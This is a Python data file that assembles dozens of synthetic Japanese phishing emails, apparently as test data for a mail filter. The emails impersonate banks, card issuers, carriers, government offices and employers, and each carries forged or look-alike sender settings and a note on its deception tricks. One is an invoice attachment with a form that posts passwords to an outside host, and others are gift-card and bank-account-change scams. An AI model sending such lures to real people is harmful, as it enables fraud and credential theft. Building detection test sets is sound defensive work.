from mails import *  # noqa

ZW = "\u200b"

P("amazon-forged-payment-update-dmarcfail", "Amazon",
  ("Amazon.co.jp", "account-update@amazon.co.jp"),
  "【重要】Amazonアカウントのお支払い方法を更新してください",
  """Amazon お客様

お客様のアカウントに登録されているお支払い方法が承認されませんでした。
24時間以内に情報を更新いただけない場合、アカウントおよびご注文は一時的に保留されます。

お支払い方法を更新する:
https://amazon-co-jp.acct-renew-7f3k.top/ap/signin?ref=pay_upd

※本メールは送信専用です。
Amazon.co.jp カスタマーサービス""",
  au=forged("amazon.co.jp", "mx1.kjhsd-mailer.cn", p="QUARANTINE"),
  tricks="forged official From (SPF pass for unrelated sender, DMARC fail p=QUARANTINE, Gmail AR); combo .top domain; 24h deadline")

P("amazon-html-visible-official-url", "Amazon",
  ("Amazon.co.jp", "no-reply@amazon-co-jp.support-center-q2.com"),
  "Amazonプライム会費のお支払いにご指定のクレジットカードがご利用いただけません",
  "", kind="html", cte="quoted-printable",
  html=html("<p>Amazonプライムをご利用いただきありがとうございます。</p>",
            "<p>プライム会費のお支払いに問題が発生しました。特典のご利用を継続するには、お支払い情報をご確認ください。</p>",
            "<p>" + a("https://amazon-co-jp.support-center-q2.com/prime/renew", "https://www.amazon.co.jp/gp/primecentral") + "</p>",
            "<p>Amazon.co.jp</p>"),
  au=own("amazon-co-jp.support-center-q2.com"),
  tricks="look-alike combo sender domain passing own SPF/DKIM; HTML link text shows official amazon.co.jp URL, href look-alike")

P("amazon-zero-width-compromised-lock", "Amazon",
  ("A" + ZW + "mazon", "info@kobayashi-kougyou.co.jp"),
  "A" + ZW + "mazon アカウントが一時停止されました",
  "A" + ZW + "mazon をご利用いただきありがとうございます。\n\n"
  "お客様のアカウントで異常なログインが検出されたため、アカウントを一時停止しました。\n"
  "以下のリンクから本人確認を完了してください。確認が完了しない場合、アカウントは永久に停止されます。\n\n"
  "https://signin-amaz0n.jp-verify-u8.xyz/\n\nA" + ZW + "mazon.co.jp",
  au=ok("kobayashi-kougyou.co.jp"),
  tricks="compromised unrelated Japanese company mailbox (full pass); zero-width space inside brand in display name, subject and body; digit-for-letter look-alike URL")

P("amazon-refund-callback-no-link", "Amazon",
  ("Amazonカスタマーサポート", "amazon.jp.support.center2026@outlook.jp"),
  "Amazonプライム年会費 自動更新のお知らせ(¥14,900)",
  """お客様

Amazonプライム年会費 ¥14,900 のお支払いが本日完了いたしました。
お申込み番号: 503-8841726-3390152

このお申込みにお心当たりのない場合は、72時間以内に下記サポートセンターまでお電話ください。
返金手続きをご案内いたします。

Amazon返金サポートセンター: 050-3198-7702(受付 9:00-21:00)

Amazon.co.jp""",
  au=own("outlook.jp", dmarc="pass"),
  tricks="refund callback scam without any link; free mail (outlook.jp); fake order number")

P("smbc-card-forged-riyou-kakunin", "三井住友カード",
  ("三井住友カード", "info@vpass.ne.jp"),
  "【三井住友カード】ご利用確認のお願い",
  """三井住友カードをご利用いただきありがとうございます。

お客様のカードにおいて、第三者による不正利用の可能性があるお取引を検知しました。
安全のため、カードのご利用を一時的に制限しております。

下記よりご利用内容の確認をお願いいたします。
https://vpass-ne-jp.kakunin-r7.com/login

確認が取れない場合、カードのご利用停止となる場合がございます。

三井住友カード株式会社""",
  to=ISP, au=("isp", dict(spf="fail", dkim="none", dmarc="fail", mf="vpass.ne.jp", dd="none", fd="vpass.ne.jp")),
  tricks="forged official From with SPF fail and DMARC fail (Japanese ISP AR); hyphenated brand in look-alike domain")

P("smbc-card-sms-style-shortener", "三井住友カード",
  ("", "vpass-info2931@docomo.ne.jp"), "",
  "【三井住友カード】お客様のカードが不正利用された可能性があります。ご確認ください https://bit.ly/3Vq8Zk7",
  au=own("docomo.ne.jp", dmarc="pass"),
  tricks="SMS-style short mail from carrier mailbox; empty subject; URL shortener")

P("smbc-card-sjis-riyou-teishi", "三井住友カード",
  ("三井住友カード株式会社", "support@smbc-card-jp.net"),
  "カードのご利用を一時停止しております",
  """いつも三井住友カードをご利用いただき、誠にありがとうございます。

お客様のカードにつきまして、ご登録情報の再確認が必要となりました。
大変お手数ですが、２０２６年１１月３０日までに下記URLよりご登録情報をご確認ください。

▼ご登録情報の確認
http://smbc-card-jp.net/vpass/member/

期限までにご確認いただけない場合、カードのご利用を停止させていただきます。
""", charset="shift_jis", scs="shift_jis", cte="8bit",
  au=own("smbc-card-jp.net"),
  tricks="look-alike .net domain passing own auth; Shift_JIS 8bit body; plain http; full-width deadline")

P("jcb-myjcb-lookalike-html-alt", "JCB",
  ("MyJCB", "mail@myjcb-qa.com"),
  "【MyJCB】カードご利用内容の確認のお願い",
  "JCBカード会員様\n\n不正利用検知システムにより、お客様のカードご利用に不審な点が確認されました。\n"
  "https://my.jcb.co.jp/Login\n\n株式会社ジェーシービー",
  kind="alt", cte="quoted-printable",
  html=html("<p>JCBカード会員様</p><p>不正利用検知システムにより、お客様のカードご利用に不審な点が確認されました。</p>",
            "<p>" + a("https://myjcb-qa.com/Login?id=8812", "https://my.jcb.co.jp/Login") + "</p><p>株式会社ジェーシービー</p>"),
  au=own("myjcb-qa.com"),
  tricks="look-alike domain; both text part and HTML link text show the official my.jcb.co.jp URL, only the href differs")

P("rakuten-card-lookalike-tld", "楽天カード",
  ("楽天カード株式会社", "info@mail.rakuten-card.co.jp.ivn-secure.com"),
  "【楽天カード】お支払い金額の確定が保留されています",
  """楽天カードをご利用いただき誠にありがとうございます。

今月のお支払い金額の確定処理が保留となっております。
楽天e-NAVIにログインし、カード情報の再認証を行ってください。

▼楽天e-NAVIログイン
https://www.rakuten-card.co.jp.ivn-secure.com/e-navi/

楽天カード株式会社""",
  au=own("mail.rakuten-card.co.jp.ivn-secure.com"),
  tricks="official domain as left-hand labels of look-alike (rakuten-card.co.jp.ivn-secure.com) in sender and URL")

P("rakuten-ichiba-iso2022-account-lock", "楽天市場",
  ("楽天会員サービス", "member@rakuten-co-jp.amor-9d.top"),
  "【楽天市場】お客様のアカウントはロックされています",
  """楽天会員 各位

いつも楽天市場をご利用いただきありがとうございます。
お客様のアカウントに不正アクセスの疑いがあるため、アカウントを一時的にロックいたしました。
ロックを解除するには、下記より本人確認を行ってください。

https://rakuten-co-jp.amor-9d.top/myrakuten/unlock

※48時間以内にお手続きがない場合、楽天ポイントは失効いたします。
楽天グループ株式会社""", charset="iso-2022-jp",
  au=own("rakuten-co-jp.amor-9d.top"),
  tricks="ISO-2022-JP body and subject; look-alike .top domain; point-forfeit threat")

P("rakuten-gmail-point-expire", "楽天市場",
  ("楽天ポイント事務局", "rakuten.point.jimukyoku@gmail.com"),
  "【楽天ポイント】期間限定ポイント12,500ポイントが本日失効します",
  "楽天会員様\n\n期間限定ポイント 12,500 ポイントが本日23:59に失効予定です。\n"
  "下記より受取手続きを行うと有効期限が延長されます。\nhttps://rpoint-kaisyu.cfd/entry\n\n楽天ポイント事務局",
  au=own("gmail.com", dmarc="pass"),
  tricks="free mail (gmail.com) brand display name; .cfd domain; same-day expiry")

P("mufg-forged-torihiki-mokuteki", "三菱UFJ銀行",
  ("三菱UFJ銀行", "info@bk.mufg.jp"),
  "【三菱UFJ銀行】お取引目的等のご確認のお願い",
  """いつも三菱UFJ銀行をご利用いただき、誠にありがとうございます。

当行では、犯罪収益移転防止法に基づき、お客さまのお取引目的等を定期的に確認させていただいております。
2026年12月5日までにご回答いただけない場合、お取引を一部制限させていただきます。

▼ご回答はこちら
https://bk-mufg-jp.torihiki-kakunin.shop/

株式会社三菱UFJ銀行""",
  to=WK, au=forged("bk.mufg.jp", "bk.mufg.jp", to=WK, spf="fail", p="REJECT"),
  tricks="forged official From (SPF fail, DMARC fail, M365 AR compauth=fail); .shop look-alike; AML 取引目的 pretext")

P("mizuho-html-visible-url-qp", "みずほ銀行",
  ("みずほダイレクト", "mizuhobank@mizuho-direct-jp.com"),
  "【みずほ銀行】みずほダイレクトの利用制限について",
  "", kind="html", cte="quoted-printable",
  html=html("<p>いつもみずほ銀行をご利用いただきありがとうございます。</p>",
            "<p>お客さまの口座で不正な取引の可能性が検知されたため、みずほダイレクトのご利用を制限しております。</p>",
            "<p>" + a("https://mizuho-direct-jp.com/ib/unlock", "https://www.mizuhobank.co.jp/direct/start.html") + "</p>",
            "<p>株式会社みずほ銀行</p>"),
  au=own("mizuho-direct-jp.com"),
  tricks="look-alike hyphenated domain; HTML link text shows official mizuhobank.co.jp URL")

P("yucho-compromised-direct-limit", "ゆうちょ銀行",
  ("ゆうちょ銀行", "yoyaku@hotel-kaigetsu.jp"),
  "【ゆうちょ銀行】ゆうちょダイレクトのお取引を一時制限しました",
  "ゆうちょダイレクトご利用のお客さま\n\nお客さまの口座で第三者による不正利用の可能性が確認されたため、お取引を一時的に制限しました。\n"
  "ご本人確認のうえ、制限を解除してください。\n\nhttps://jp-bank-yuchodirect.rcheck-4h.com/\n\n株式会社ゆうちょ銀行",
  au=ok("hotel-kaigetsu.jp"),
  tricks="compromised unrelated hotel mailbox (full pass)")

P("resona-sms-empty-subject", "りそな銀行",
  ("", "resona.kakunin88@yahoo.co.jp"), "",
  "りそな銀行です。お客様の口座が凍結されました。解除は下記から https://x.gd/rsN4q",
  au=own("yahoo.co.jp", dmarc="pass"),
  tricks="SMS-style short mail, empty subject, free mail (yahoo.co.jp), shortener")

P("aeon-machine-translated-cn", "イオンカード",
  ("AEON CARD", "service@aeon-card-jp.vip"),
  "イオンカード 您的账户安全確認",
  """尊敬なるイオンカード会員様

あなたのアカウントは異常な活動が検出されました、あなたの安全のため、私たちは一時的にあなたのカードを凍結しました。
下のリンクをクリックして、あなたの情報を検証してください。

https://aeon-card-jp.vip/verify

ご協力に感謝します。
イオンカード安全センター""",
  au=own("aeon-card-jp.vip"),
  tricks="machine-translated Japanese with simplified Chinese in subject; .vip look-alike")

P("epos-iso2022-lookalike", "エポスカード",
  ("エポスNetカスタマー", "info@eposcard-net.co"),
  "【エポスカード】ご利用確認のお願い（重要）",
  """エポスカードをご利用いただきありがとうございます。

ご利用金額が普段と異なる可能性があるため、一時的にカードのご利用を保留させていただいております。
①エポスNetにログイン
②ご利用内容を確認
③保留解除

https://www.eposcard-net.co/memberservice/

株式会社エポスカード""", charset="iso-2022-jp", crlf=True,
  au=own("eposcard-net.co"),
  tricks="ISO-2022-JP with NEC row-13 ①②③; .co look-alike of eposcard.co.jp; CRLF")

P("saison-m365-forged", "セゾンカード",
  ("セゾンNetアンサー", "info@saisoncard.co.jp"),
  "【セゾンカード】重要：ご利用確認",
  "セゾンカードをご利用のお客さま\n\nお客さまのカードに不正利用の疑いがあるため、ご利用を一時停止しております。\n"
  "Netアンサーにログインしてご確認ください。\nhttps://saison-netanswer.kakunin-8k.icu/\n\nクレディセゾン",
  to=WK, au=forged("saisoncard.co.jp", "smtp.vsn-send.ru", to=WK, p="QUARANTINE"),
  tricks="forged official From (DMARC fail, M365 compauth fail); .icu domain")

P("viewcard-eucjp-lookalike", "ビューカード",
  ("VIEW's NET", "viewsnet@viewcard-jre.com"),
  "【ビューカード】カード利用停止のお知らせ",
  "ビューカードをご利用のお客さま\n\n不正利用防止のため、カードのご利用を停止しております。\n再開手続きはこちら\nhttps://viewcard-jre.com/vnet/login\n\n株式会社ビューカード",
  charset="euc-jp", cte="8bit",
  au=own("viewcard-jre.com"),
  tricks="EUC-JP 8bit body; look-alike domain")

P("docomo-sms-unpaid", "NTTドコモ",
  ("", "no-reply-77@softbank.ne.jp"), "",
  "【NTTドコモ】ご利用料金のお支払い確認が取れておりません。至急ご確認ください。https://docomo-pay.jp-ryokin.top/",
  au=own("softbank.ne.jp", dmarc="pass"),
  tricks="SMS-style; empty subject; rival carrier mailbox; look-alike .top")

P("docomo-d-account-forged", "NTTドコモ",
  ("dアカウント", "d-account@docomo.ne.jp"),
  "【重要】dアカウントの不正ログインを検知しました",
  "dアカウントをご利用のお客様\n\n第三者によるログインが検知されました。パスワードの再設定を行ってください。\n"
  "https://id-smt-docomo.ne.jp.reset-pw5.com/\n\n株式会社NTTドコモ",
  au=forged("docomo.ne.jp", "aws-mail-41.kxz.cc", spf="pass"),
  tricks="forged official From (DMARC fail, Gmail AR); official host as leading labels")

P("au-id-lookalike-html", "au (KDDI)",
  ("au ID", "auid@au-kddi-support.com"),
  "【au】au IDの利用を一時停止しました",
  "", kind="html", cte="base64",
  html=html("<p>au IDをご利用いただきありがとうございます。</p><p>セキュリティ上の理由により、au IDの利用を一時停止しました。</p>",
            "<p>" + a("https://au-kddi-support.com/auid/restore", "https://id.auone.jp/") + "</p><p>KDDI株式会社</p>"),
  au=own("au-kddi-support.com"),
  tricks="HTML-only; link text shows official id.auone.jp URL")

P("softbank-unpaid-qr", "ソフトバンク",
  ("SoftBank", "billing@softbank-mysb.net"),
  "【ソフトバンク】ご利用料金未払いによる回線停止のお知らせ",
  "", kind="related", cte="base64",
  html=html("<p>ソフトバンクをご利用いただきありがとうございます。</p>",
            "<p>ご利用料金のお支払いが確認できておりません。本日中にお支払いがない場合、回線を停止いたします。</p>",
            "<p>スマートフォンで下記QRコードを読み取り、お手続きください。</p>",
            "<p><img src=\"cid:qr%s@x\" alt=\"QR\"></p>" % h("softbank-unpaid-qr", 6)),
  attach=[qr_part("softbank-unpaid-qr")],
  au=own("softbank-mysb.net"),
  tricks="QR code lure (inline PNG, no clickable link); line-suspension threat")

P("yamato-sms-fuzai", "ヤマト運輸",
  ("", "kuroneko8842@ezweb.ne.jp"), "",
  "ヤマト運輸よりお荷物のお届けにあがりましたが不在のため持ち帰りました。配送物を確認ください。 https://yamato-kk.jp-unso.cn/",
  au=own("ezweb.ne.jp", dmarc="pass"),
  tricks="SMS-style redelivery (不在通知) lure; carrier mailbox; .cn look-alike")

P("yamato-forged-kuroneko", "ヤマト運輸",
  ("ヤマト運輸", "mail@kuronekoyamato.co.jp"),
  "【ヤマト運輸】お荷物お届けのお知らせ（住所不備）",
  "お客様宛てのお荷物について、ご住所の不備によりお届けできません。\n"
  "お届け先情報を更新し、再配達手数料(330円)をお支払いください。\nhttps://kuronekoyamato-co.redelivery-x2.top/\n\nヤマト運輸株式会社",
  to=ISP, au=("isp", dict(spf="softfail", dkim="none", dmarc="fail", mf="kuronekoyamato.co.jp", dd="none", fd="kuronekoyamato.co.jp")),
  tricks="forged official From (SPF softfail, DMARC fail, Japanese ISP AR); small redelivery fee to harvest card")

P("sagawa-lookalike-tld", "佐川急便",
  ("佐川急便", "info@sagawa-exp.co.jp-delivery.info"),
  "【佐川急便】お荷物のお届けについて",
  "お荷物をお届けに伺いましたが、宛先不明のため持ち戻りました。\n再配達のご依頼は下記よりお願いいたします。\n\nhttps://sagawa-exp.co.jp-delivery.info/redeliv\n\n佐川急便株式会社",
  au=own("sagawa-exp.co.jp-delivery.info"),
  tricks="official domain with hyphen-appended TLD swap (sagawa-exp.co.jp-delivery.info)")

P("japanpost-iso2022-hokan-kigen", "日本郵便",
  ("日本郵便", "noreply@japanpost-jp.cc"),
  "【日本郵便】お荷物の保管期限が近づいています",
  """日本郵便をご利用いただきありがとうございます。

お客様宛てのゆうパックは、送料不足のため郵便局で保管しております。
保管期限：2026年12月1日

期限を過ぎますと差出人へ返送されます。下記より不足分をお支払いください。
https://japanpost-jp.cc/track/pay

日本郵便株式会社""", charset="iso-2022-jp",
  au=own("japanpost-jp.cc"), rawfrom=True,
  tricks="ISO-2022-JP with raw (unencoded) JIS display name; .cc look-alike; 送料不足 pretext")

P("nta-fake-gojp-hierarchy", "国税庁",
  ("国税庁", "info@nta.go.jp.etax-tsuchi.com"),
  "【国税庁】未納税金の強制徴収（差押）執行予告通知",
  """納税者 様

あなたの所得税（令和7年分）について、納付期限を過ぎても納付が確認できておりません。
下記期限までに納付いただけない場合、国税徴収法に基づき財産の差押えを執行します。

納付期限：令和8年12月2日
e-Tax納付手続き：https://www.nta.go.jp.etax-tsuchi.com/payment/

国税庁 徴収部""",
  au=own("nta.go.jp.etax-tsuchi.com"),
  tricks="fake go.jp hierarchy (nta.go.jp.etax-tsuchi.com) in sender and URL; seizure threat")

P("digital-agency-mynumber-points", "デジタル庁",
  ("デジタル庁 マイナポイント事務局", "support@myna-point.go-jp.org"),
  "【デジタル庁】マイナポイント第3弾 20,000円分の申込期限のお知らせ",
  "マイナンバーカードをお持ちの皆様\n\nマイナポイント（最大20,000円分）の申込期限が迫っています。\n"
  "下記より申込手続きを行ってください。\nhttps://myna-point.go-jp.org/apply\n\nデジタル庁",
  au=own("myna-point.go-jp.org"),
  tricks="fake government domain go-jp.org; benefit lure")

P("city-lgjp-kyufukin-lookalike", "市役所 (給付金)",
  ("横浜市 給付金担当", "kyufu@city-yokohama-lg.jp.net"),
  "【横浜市】物価高騰対策給付金（1世帯5万円）のお手続きについて",
  """横浜市にお住まいの世帯主様

物価高騰対策給付金（1世帯あたり5万円）の支給対象となりました。
下記より受取口座の登録をお願いいたします。

https://city-yokohama-lg.jp.net/kyufu/touroku

横浜市 健康福祉局 給付金担当""",
  au=own("city-yokohama-lg.jp.net"),
  tricks="fake lg.jp hierarchy (city-yokohama-lg.jp.net); municipal benefit lure asking for bank account")

P("etc-service-invalid", "ETC利用照会サービス",
  ("ETC利用照会サービス", "info@etc-meisai-jp.top"),
  "【ETC利用照会サービス】ETCサービスは無効になりました",
  """ETCサービスをご利用いただきありがとうございます。

お客様のETCサービスは、登録情報の有効期限切れにより無効になりました。
引き続きご利用いただくには、下記より手続きを行ってください。
手続きを行わない場合、ETCカードはご利用いただけなくなります。

https://etc-meisai-jp.top/login

ETC利用照会サービス事務局""",
  au=own("etc-meisai-jp.top"),
  tricks="2024-2025 ETC 無効 campaign; look-alike .top")

P("ekinet-auto-taikai", "えきねっと",
  ("えきねっと", "info@eki-net.com"),
  "【えきねっと】自動退会処理のお知らせ",
  "えきねっとをご利用いただきありがとうございます。\n\nお客様のアカウントは長期間ログインがないため、自動退会処理の対象となりました。\n"
  "継続をご希望の場合は、下記よりログインしてください。\nhttps://eki-net.com.kaiin-keizoku.xyz/\n\nJR東日本",
  au=forged("eki-net.com", "send.mlc-cloud.xyz", p="NONE"),
  tricks="forged official From (DMARC fail with p=NONE); official domain as leading labels")

P("suica-mobile-compromised", "モバイルSuica",
  ("モバイルSuica", "info@tanaka-shika-clinic.jp"),
  "【モバイルSuica】会員情報の確認のお願い",
  "モバイルSuica会員のお客様\n\nクレジットカードの有効期限切れにより、オートチャージが停止されています。\n"
  "下記より会員情報を更新してください。\nhttps://mobile-suica.jre-info.link/update\n\n東日本旅客鉄道株式会社",
  au=ok("tanaka-shika-clinic.jp"),
  tricks="compromised dental-clinic mailbox (full pass); .link domain")

P("apple-id-machine-translated", "Apple",
  ("Apple", "noreply@apple-id-center.net"),
  "あなたのApple IDはロックされています",
  """親愛なる顧客、

あなたのApple IDは、セキュリティ上の理由から無効になっています。
あなたのアカウントは、不明なデバイスからのサインインに使用されました。
あなたのアカウントを確認するために、以下のリンクをクリックしてください。

https://apple-id-center.net/verify?session=ja_JP

24時間以内に確認しない場合は、アカウントは永久的にロックされます。

Apple サポート""",
  au=own("apple-id-center.net"),
  tricks="machine-translated Japanese (親愛なる顧客); look-alike .net")

P("it-dept-password-expire-freemail", "社内情報システム部",
  ("情報システム部 ヘルプデスク", "it.helpdesk.minatomirai@outlook.com"),
  "【情報システム部】パスワードの有効期限が本日切れます",
  "各位\n\nMicrosoft 365 のパスワード有効期限が本日で切れます。\n同じパスワードを継続利用する場合は、下記から手続きを行ってください。\n\n"
  "https://m365-minatomirai.sharepoint-login.click/keep\n\n情報システム部",
  to=WK, au=own("outlook.com", to=WK, dmarc="pass"),
  tricks="internal IT impersonation from free mail (outlook.com), M365 AR; .click fake login")

P("webmail-quota-compromised", "社内メール管理者",
  ("メール管理者", "postmaster@kyushu-denki-kogyo.co.jp"),
  "メールボックスの容量が上限に達しました（99%）",
  "メールボックスの容量が 99% に達しました。新しいメールを受信できなくなります。\n下記より容量を拡張してください。\n\n"
  "https://webmail-upgrade.quota-fix.top/?u=s.kobayashi@minatomirai-seiki.co.jp\n\nメールシステム管理者",
  to=WK, au=ok("kyushu-denki-kogyo.co.jp", to=WK),
  tricks="compromised unrelated company sender (compauth pass); recipient address pre-filled in URL")

P("shared-file-partner-compromised", "共有ファイル (SharePoint)",
  ("山田 隆 (株式会社北斗物産)", "t.yamada@hokuto-bussan.co.jp"),
  "山田 隆 さんがファイル「2026年度_見積書_改訂版.xlsx」を共有しました",
  "", kind="html", cte="quoted-printable",
  html=html("<p>山田 隆 さんがあなたとファイルを共有しました。</p>",
            "<p><b>2026年度_見積書_改訂版.xlsx</b></p>",
            "<p>" + a("https://hokuto-bussan-my.sharepoint-docs.icu/:x:/g/view", "開く") + "</p>",
            "<p>このリンクは 7 日後に期限切れになります。</p><p>Microsoft OneDrive</p>"),
  to=WK, au=ok("hokuto-bussan.co.jp", to=WK),
  tricks="shared-file lure from a compromised business partner (compauth pass); .icu lookalike of sharepoint")

P("invoice-html-attachment", "請求書 (取引先なりすまし)",
  ("株式会社エムケイ商事 経理部", "keiri@mk-shoji.jp"),
  "請求書送付のご案内（2026年11月分）",
  "お世話になっております。\n株式会社エムケイ商事 経理部です。\n\n11月分の請求書を添付にてお送りいたします。\n"
  "添付ファイルを開き、ログインのうえご確認ください。\n\nよろしくお願いいたします。",
  kind="mixed", charset="utf-8", cte="base64", to=WK,
  attach=[file_part("invoice_202611.html", "text/html",
          ("<html><body><form action=\"https://mk-invoice.docview-2a.top/post\" method=\"post\">"
           "<p>請求書を表示するにはメールアドレスとパスワードを入力してください</p>"
           "<input name=\"email\"><input name=\"pw\" type=\"password\"></form></body></html>").encode())],
  au=own("mk-shoji.jp", to=WK, dmarc="pass"),
  tricks="fake invoice with HTML attachment posting credentials; newly-registered-looking sender passing auth")

P("bec-giftcard-ceo", "社長なりすまし (BEC)",
  ("佐藤 健一", "sato.kenichi.ceo@gmail.com"),
  "至急対応お願いします",
  "小林さん\n\nお疲れ様です。佐藤です。\n今、会議中で電話に出られません。\n取引先への謝礼として、Appleギフトカード5万円分（1万円×5枚）を至急購入してもらえますか。\n"
  "購入後、カード裏面のコードを写真で送ってください。経費は後で精算します。\n\n他の人には内密にお願いします。\n\n佐藤",
  to=WK, au=own("gmail.com", to=WK, dmarc="pass"),
  tricks="gift-card BEC; CEO name from free mail; no link; secrecy and urgency")

P("bec-mansion-kanrihi-account-change", "マンション管理会社 (BEC)",
  ("グランドメゾン港北 管理組合", "kanri.grandmaison.kohoku@yahoo.co.jp"),
  "【重要】管理費・修繕積立金の振込口座変更のお知らせ",
  "グランドメゾン港北 居住者各位\n\n管理会社変更に伴い、12月分より管理費・修繕積立金の振込先口座が変更となります。\n"
  "新口座：みらい信用金庫 本店営業部 普通 7712045 カ）ジーエムカンリ\n\n従前の口座振替は11月末をもって停止いたします。\n"
  "ご不明点はこのメールへご返信ください。",
  to=ISP, au=("isp", dict(spf="pass", dkim="pass", dmarc="pass", mf="yahoo.co.jp", dd="yahoo.co.jp", fd="yahoo.co.jp")),
  tricks="BEC-style bank-account change from free mail; no link; 管理組合 impersonation")

P("hr-nenmatsu-chousei-fake-login", "社内人事部",
  ("人事部 年末調整担当", "jinji@minatomirai-seiki.com"),
  "【人事部】年末調整書類の提出期限について（11/28まで）",
  "社員各位\n\n年末調整の申告書提出期限は11月28日です。未提出の方は下記システムからログインして提出してください。\n\n"
  "https://minatomirai-seiki.nenmatsu-portal.online/login\n\n人事部",
  to=WK, au=own("minatomirai-seiki.com", to=WK),
  tricks="cousin domain of the employer (.com vs .co.jp); HR 年末調整 pretext")

P("paypay-point-lookalike", "PayPay",
  ("PayPay", "campaign@paypay-jp.info"),
  "【PayPay】あなたは10,000ポイントの当選者に選ばれました",
  "PayPayをご利用いただきありがとうございます。\n\nキャンペーンに当選しました。\nポイント受取期限：本日中\nhttps://paypay-jp.info/campaign/receive\n\nPayPay株式会社",
  au=own("paypay-jp.info"),
  tricks="prize lure; .info look-alike")

P("mercari-forged-honnin", "メルカリ",
  ("メルカリ", "no-reply@mercari.jp"),
  "【メルカリ】本人確認のお願い",
  "メルカリをご利用いただきありがとうございます。\n\nお客様のアカウントで不審な取引が確認されたため、売上金の振込を保留しています。\n"
  "本人確認を行ってください。\nhttps://jp-mercari.verify-kyc.top/\n\n株式会社メルカリ",
  to=WK, au=forged("mercari.jp", "mta3.gz-sendmx.cn", to=WK, p="QUARANTINE"),
  tricks="forged official From (DMARC fail, M365)")

P("line-account-auth", "LINE",
  ("LINE", "no-reply@line-security-jp.com"),
  "【LINE】アカウント認証のお知らせ",
  "LINEをご利用いただきありがとうございます。\n\nお客様のLINEアカウントが別の端末でログインされました。\n心当たりがない場合は、アカウントを保護するため下記から認証を行ってください。\n"
  "https://line-security-jp.com/auth\n\nLINEヤフー株式会社",
  au=own("line-security-jp.com"),
  tricks="look-alike domain; login alert lure")

P("yahoo-shopping-payment", "Yahoo! JAPAN",
  ("Yahoo!ショッピング", "shopping@yahoo-co-jp.order-care.com"),
  "【Yahoo!ショッピング】お支払い情報の確認が必要です",
  "Yahoo!ショッピングをご利用いただきありがとうございます。\n\nご注文（注文番号：store-10048812）のお支払い手続きが完了しておりません。\n"
  "https://yahoo-co-jp.order-care.com/payment\n\nLINEヤフー株式会社",
  charset="utf-8", cte="quoted-printable", crlf=True,
  au=own("yahoo-co-jp.order-care.com"),
  tricks="look-alike combo domain; QP body; CRLF")

P("tepco-refund", "東京電力",
  ("東京電力エナジーパートナー", "info@tepco-kurashi.net"),
  "【東京電力】電気料金の過払い金返還のお知らせ",
  "お客様各位\n\n電気料金の再計算の結果、過払いが確認されました。\n返還金額：8,430円\n\n下記よりお振込先口座をご登録ください。\nhttps://tepco-kurashi.net/refund\n\n東京電力エナジーパートナー株式会社",
  au=own("tepco-kurashi.net"),
  tricks="refund lure; look-alike .net")

P("tokyogas-sjis-teishi", "東京ガス",
  ("東京ガス", "mytokyogas@tokyo-gas.jp.net"),
  "【東京ガス】ガス料金未払いによる供給停止予告",
  "東京ガスをご利用のお客さま\n\nガス料金のお支払いが確認できておりません。\n１２月３日までにお支払いがない場合、ガスの供給を停止いたします。\n\nhttps://tokyo-gas.jp.net/pay\n\n東京ガス株式会社",
  charset="shift_jis", scs="shift_jis", cte="base64",
  au=own("tokyo-gas.jp.net"),
  tricks="Shift_JIS base64; supply-stop threat; .jp.net look-alike")

P("nenkin-kikou-refund", "日本年金機構",
  ("日本年金機構", "kikou@nenkin-go-jp.com"),
  "【日本年金機構】年金の未払い分受取手続きのお知らせ",
  "年金受給者の皆様\n\n年金記録の確認により、未払い年金（68,200円）が発生しています。\n下記より受取手続きを行ってください。\nhttps://nenkin-go-jp.com/uketori\n\n日本年金機構",
  au=own("nenkin-go-jp.com"),
  tricks="fake go.jp look-alike (nenkin-go-jp.com); refund lure")

P("police-arrest-warrant-callback", "警察 (なりすまし)",
  ("警視庁 捜査第二課", "keishicho.sousa2@outlook.jp"),
  "【警視庁】あなたに対する逮捕状が発行されています",
  "あなたの銀行口座が詐欺事件に使用された疑いがあります。\n逮捕状が発行されていますので、本日中に下記担当者へ電話してください。\n"
  "担当：捜査第二課 高橋\n電話：+81-50-1722-3308\n\n連絡がない場合、口座を凍結します。",
  au=own("outlook.jp", dmarc="pass"),
  tricks="2025 police-impersonation callback scam; free mail; no link")

P("sbi-sec-forged-html", "SBI証券",
  ("SBI証券", "info@sbisec.co.jp"),
  "【SBI証券】お客様情報の確認のお願い（重要）",
  "", kind="html", cte="base64",
  html=html("<p>平素はSBI証券をご利用いただき、誠にありがとうございます。</p>",
            "<p>不正アクセス被害防止のため、お客様情報の確認をお願いしております。未確認の場合、お取引が制限されます。</p>",
            "<p>" + a("https://sbisec-co-jp.kyc-check1.top/login", "https://site1.sbisec.co.jp/ETGate/") + "</p>"),
  au=forged("sbisec.co.jp", "mail.zxcmx-relay.top", p="NONE"),
  tricks="forged official From (DMARC fail p=NONE); HTML link text shows official SBI URL; 2025 securities takeover wave")

P("matsui-sec-lookalike", "松井証券",
  ("松井証券", "support@matsui-co-jp.com"),
  "【松井証券】ログイン認証方式変更のお知らせ",
  "松井証券をご利用のお客様\n\nセキュリティ強化のため、ログイン認証方式を変更いたします。\n12月10日までに下記より設定を完了してください。\n"
  "https://matsui-co-jp.com/auth/setup\n\n松井証券株式会社",
  au=own("matsui-co-jp.com"),
  tricks="look-alike domain; mimics the genuine 2025 MFA-mandatory notices")

P("jal-mileage-expire", "JAL",
  ("JALマイレージバンク", "jmb@jal-mileage.jp.net"),
  "【JAL】マイルの有効期限が近づいています（12,800マイル）",
  "JALマイレージバンク会員様\n\n12,800マイルが今月末で失効します。\n下記よりマイルをe JALポイントへ交換すると失効を防げます。\nhttps://jal-mileage.jp.net/exchange\n\nJALマイレージバンク",
  au=own("jal-mileage.jp.net"),
  tricks="mile-expiry lure; .jp.net look-alike")

P("netflix-payment-fail", "Netflix",
  ("Netflix", "info@netflix-account-jp.com"),
  "お支払いに問題があります - アカウントが保留中です",
  "お客様\n\nお支払い情報を確認できなかったため、メンバーシップが保留になっています。\n\n"
  "https://netflix-account-jp.com/billing\n\nNetflixチーム",
  au=own("netflix-account-jp.com"), crlf=True,
  tricks="look-alike; payment failure lure; CRLF")

P("visa-secure-eucjp-forged", "Visa",
  ("Visa Secure", "secure@visa.co.jp"),
  "【Visa】本人認証サービス（3Dセキュア）の再登録",
  "Visaカード会員様\n\n本人認証サービス（3Dセキュア2.0）への移行に伴い、再登録が必要です。\n"
  "https://visa-secure-jp.reg3ds.top/\n\nVisa Worldwide",
  charset="euc-jp", cte="8bit", to=ISP,
  au=("isp", dict(spf="fail", dkim="none", dmarc="fail", mf="visa.co.jp", dd="none", fd="visa.co.jp")),
  tricks="forged brand From (SPF fail, DMARC fail, Japanese ISP AR); EUC-JP 8bit")

